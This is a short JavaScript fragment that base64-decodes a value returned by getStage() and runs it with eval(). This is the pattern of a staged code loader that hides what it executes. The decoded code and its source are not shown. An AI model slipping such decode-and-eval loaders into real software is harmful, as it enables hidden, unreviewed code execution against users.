const stage = getStage();
const text = Buffer.from(stage, "base64").toString("utf8");
eval(text);
